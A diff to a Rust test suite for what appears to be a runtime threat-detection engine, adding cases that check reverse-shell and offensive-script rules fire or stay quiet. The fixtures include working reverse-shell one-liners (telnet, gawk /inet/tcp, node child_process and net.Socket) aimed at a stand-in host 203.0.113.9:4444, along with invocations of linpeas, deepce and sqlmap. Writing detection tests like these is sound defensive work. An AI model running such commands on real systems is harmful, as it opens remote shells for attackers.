@@ -156,6 +156,22 @@ fn reverse_shells_by_command_line_and_by_a_shell_holding_a_socket() {
             "/bin/sh",
             "-c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f",
         ),
+        (
+            "/bin/sh",
+            "-c telnet 203.0.113.9 4444 | /bin/sh | telnet 203.0.113.9 4445",
+        ),
+        (
+            "/usr/bin/gawk",
+            "BEGIN {s = \"/inet/tcp/0/203.0.113.9/4444\"; while (1) {s |& getline c; print c |& s}}",
+        ),
+        (
+            "/usr/local/bin/node",
+            "-e require('child_process').exec('nc -e /bin/sh 203.0.113.9 4444')",
+        ),
+        (
+            "/usr/local/bin/node",
+            "-e var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);var c=new net.Socket();c.connect(4444,'203.0.113.9')",
+        ),
     ] {
         fires("reverse_shell_command", t, exec(binary, arguments));
     }
@@ -167,6 +183,24 @@ fn reverse_shells_by_command_line_and_by_a_shell_holding_a_socket() {
     quiet(
         "reverse_shell_command",
         exec("/usr/bin/socat", "TCP-LISTEN:8080,fork TCP:backend:80"),
+    );
+    quiet(
+        "reverse_shell_command",
+        exec(
+            "/bin/sh",
+            "-c until nc -z db 5432; do sleep 1; done; exec ./server",
+        ),
+    );
+    quiet(
+        "reverse_shell_command",
+        exec("/bin/sh", "-c echo stats | nc memcached 11211 | sha256sum"),
+    );
+    quiet(
+        "reverse_shell_command",
+        exec(
+            "/usr/local/bin/node",
+            "-e require('http').get('http://localhost:3000/healthz')",
+        ),
     );
 
     let mut socket = process_event("network_connect", "/bin/bash", "-i", "/usr/bin/nc");
@@ -249,6 +283,26 @@ fn suspicious_tools_offensive_high_dual_use_low() {
     quiet(
         "suspicious_tool_dual_use",
         exec("/usr/bin/nc", "-z -w 2 postgres 5432"),
+    );
+    // The tool is the script an interpreter runs.
+    for (binary, arguments) in [
+        ("/bin/sh", "linpeas.sh"),
+        ("/bin/bash", "/tmp/deepce.sh --no-enumeration"),
+        (
+            "/usr/bin/python3",
+            "/opt/sqlmap/sqlmap.py -u http://shop/?id=1",
+        ),
+    ] {
+        let found = fires("offensive_script_run", t, exec(binary, arguments));
+        assert!(found.severity >= 7.0);
+    }
+    quiet(
+        "offensive_script_run",
+        exec("/bin/sh", "/app/entrypoint.sh"),
+    );
+    quiet(
+        "offensive_script_run",
+        exec("/usr/bin/python3", "/app/manage.py migrate"),
     );
     quiet(
         "suspicious_tool_dual_use",
